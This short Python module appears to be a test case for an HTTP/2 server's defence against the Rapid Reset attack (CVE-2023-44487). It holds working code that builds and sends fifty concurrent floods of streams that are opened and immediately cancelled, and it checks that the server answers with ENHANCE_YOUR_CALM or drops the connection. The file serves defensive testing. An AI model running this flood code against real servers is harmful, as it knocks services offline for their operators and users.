"""HTTP/2 streams that are opened and reset at once (CVE-2023-44487)."""

from http2 import ENDS_HEADERS, ENDS_STREAM, HEADERS, RESET, fields, flood, frame
from raw import gather

COUNT = 50
AT_ONCE = 100

WHAT = f"{COUNT} floods of resets by HTTP/2"


def resets(number):
    """A hundred streams, each begun and given up."""
    first = 1 + 2 * AT_ONCE * number
    head, code = fields("/api/v1/jobs"), (8).to_bytes(4, "big")
    return b"".join(
        frame(HEADERS, ENDS_STREAM | ENDS_HEADERS, stream, head) + frame(RESET, 0, stream, code)
        for stream in range(first, first + 2 * AT_ONCE, 2)
    )


async def attack(target):
    return await gather(flood(target, b"", resets) for _ in range(COUNT))


def check(case, outcome):
    # Told to calm down, or cut with the farewell lost in what was still coming.
    case.assertEqual(sum(outcome.values()), COUNT)
    case.assertLessEqual(set(outcome), {"11", "-1"})
